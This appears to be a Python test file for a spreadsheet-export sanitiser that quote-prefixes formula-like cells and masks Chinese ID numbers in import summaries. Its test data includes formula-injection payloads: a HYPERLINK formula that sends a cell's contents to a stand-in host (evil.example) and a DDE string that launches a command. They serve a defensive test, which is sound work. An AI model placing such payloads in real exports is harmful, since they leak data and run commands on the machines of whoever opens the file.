"""tabular.safe: the one rule every export follows (no cell a spreadsheet runs as a formula) and
the masking of ID numbers in import summaries. Plain functions, no database."""

import csv
import decimal
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from xiezuo.registry.crypto import mask_id as registry_mask_id
from xiezuo.tabular.safe import mask_ids, risky, safe_cell, safe_row

FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)", "\t=1+2", "\r=1+2", "-", "+86 139", "=", "-1e3"]
PLAIN = ["张三", "1+2", "测试=村", "13800000000", "", "621124198005060013", "-5.00", "+3", "-7"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_csv(text):
    assert risky(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -5, 3.5, decimal.Decimal("-1000.00"), None])
def test_plain_text_and_numbers_stay_as_they_are(value):
    assert not risky(value)
    assert safe_cell(value) is value


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(tmp_path, write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    row = [*FORMULAS, -5, decimal.Decimal("-1000.00"), "-5.00"]
    ws.append(safe_row(row, sheet=ws))
    wb.save(tmp_path / "s.xlsx")
    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    cells = list(load_workbook(tmp_path / "s.xlsx").active.iter_rows(values_only=False))[0]
    assert [c.value for c in cells[:len(FORMULAS)]] == FORMULAS  # the text itself unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:len(FORMULAS)])
    assert [(c.value, c.data_type) for c in cells[len(FORMULAS):]] == [
        (-5, "n"), (-1000, "n"), ("-5.00", "s")]


def test_csv_rows_read_back_quoted():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["=1+2", -5, "-5.00", "名"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2", "-5", "-5.00", "名"]


@pytest.mark.parametrize("text,expected", [
    ("621124198005060013", "621124********0013"),
    ("62112419800506001X", "621124********001X"),
    ("621124800506001", "621124*****6001"),
    ("62112419800506001", "621124*******6001"),  # one digit short: still masked
    ("证件号码已登记：621124198005060013。", "证件号码已登记：621124********0013。"),
    ("13800000000", "13800000000"),  # a phone number is not an ID number
    ("6211241980050600130", "6211241980050600130"),  # nor a longer run of digits
    ("91620102MA71XYZ12Q", "91620102MA71XYZ12Q"),  # nor a credit code
])
def test_id_numbers_in_error_values_are_masked_as_the_registry_masks_them(text, expected):
    assert mask_ids(text) == expected
    if len(text) in (15, 18) and text[:6].isdigit() and expected != text:
        assert mask_ids(text) == registry_mask_id(text)


def test_mask_ids_leaves_non_text_alone():
    assert mask_ids(None) is None and mask_ids(12) == 12
